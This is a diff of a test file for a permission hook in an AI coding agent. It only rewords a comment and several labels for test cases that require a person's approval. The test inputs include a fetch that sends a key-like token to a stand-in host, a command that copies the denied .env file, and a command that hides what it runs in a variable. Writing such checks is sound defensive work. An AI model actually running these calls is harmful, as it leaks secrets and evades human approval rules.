@@ -85,15 +85,15 @@ describe("a hook before a call", () => {
   });
   const denyEnv: SessionOptions = { rules: [{ text: "Read(.env)", effect: "deny", scope: "project" }] };
 
-  // Each of these calls needs a person even if the project has the rules `Bash`, `Write` and `WebFetch`.
+  // Each of these calls needs a person's approval even if the project has the rules `Bash`, `Write` and `WebFetch`.
   it.each<[string, { name: string; input: unknown }, SessionOptions]>([
     ["a URL with a key", { name: "WebFetch", input: { url: `https://x.example/?q=sk-${"a".repeat(20)}` } }, {}],
     ["a command that mentions a denied file", shell("touch made.txt; cp .env made.txt"), denyEnv],
     ["a command that hides what it runs", shell("x=touch; $x made.txt"), askRule("Bash(rm:*)", "user")],
-    ["what the project wants to be asked", write(), askRule("Write", "project")],
-    ["what the user wants to be asked", shell("touch made.txt"), askRule("Bash(touch:*)", "user")],
+    ["a call that the project wants to be asked about", write(), askRule("Write", "project")],
+    ["a call that the user wants to be asked about", shell("touch made.txt"), askRule("Bash(touch:*)", "user")],
     [
-      "a line on which the project asks about one command and the user about another",
+      "a line with one command that the project wants to be asked about, and one that the user does",
       shell("touch made.txt; mkdir x"),
       {
         rules: [
